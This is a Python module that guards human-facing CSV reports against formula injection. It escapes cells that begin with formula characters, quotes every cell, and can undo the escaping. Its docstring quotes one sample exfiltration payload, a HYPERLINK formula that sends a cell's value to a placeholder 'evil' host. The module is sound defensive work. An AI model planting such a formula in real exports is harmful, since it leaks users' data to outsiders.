"""CSV reports meant for people: a spreadsheet opening one must not run a cell as a formula.

Titles, identifiers, file names and server messages come from elsewhere, and a cell such as
``=HYPERLINK("http://evil/?"&A1,"click")``, ``+1``, ``-2+3`` or ``@SUM(A1)`` is a formula to Excel,
LibreOffice and Google Sheets (CSV injection). Following the OWASP guidance, every text cell that starts
with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return gets a leading ``'`` (shown as text, never
evaluated), and every cell is quoted, so a locale that splits on ``;`` cannot start a new cell inside one.

The change can be undone exactly (:func:`read_back`): a cell is escaped when, past any leading ``'``, it starts
with one of those characters, and ``read_back`` drops one leading ``'`` from exactly those cells. Numbers are
written as they are. Data exports for programs (the search operator's CSV) are not written through this
module: they keep every value verbatim.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Mapping, Sequence
from typing import IO, Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _looks_like_formula(text: str) -> bool:
    return text.lstrip("'").startswith(FORMULA_STARTS)


def neutralise(value: Any) -> Any:
    """``value`` as a spreadsheet will show but never evaluate it (text only; other values unchanged)."""
    if isinstance(value, str) and _looks_like_formula(value):
        return "'" + value
    return value


def read_back(cell: str) -> str:
    """The value :func:`neutralise` was given: for programs reading a report back."""
    return cell[1:] if cell.startswith("'") and _looks_like_formula(cell) else cell


class ReportWriter:
    """``csv.writer`` for reports: every cell quoted and neutralised."""

    def __init__(self, handle: IO[str], **kwargs: Any) -> None:
        self._writer = csv.writer(handle, quoting=csv.QUOTE_ALL, **kwargs)

    def writerow(self, row: Iterable[Any]) -> None:
        self._writer.writerow([neutralise(value) for value in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


class ReportDictWriter:
    """``csv.DictWriter`` for reports: every cell quoted and neutralised."""

    def __init__(self, handle: IO[str], fieldnames: Sequence[str], **kwargs: Any) -> None:
        self.fieldnames = list(fieldnames)
        self._writer = csv.DictWriter(handle, self.fieldnames, quoting=csv.QUOTE_ALL, **kwargs)

    def writeheader(self) -> None:
        self._writer.writeheader()

    def writerow(self, row: Mapping[str, Any]) -> None:
        self._writer.writerow({key: neutralise(value) for key, value in row.items()})

    def writerows(self, rows: Iterable[Mapping[str, Any]]) -> None:
        for row in rows:
            self.writerow(row)
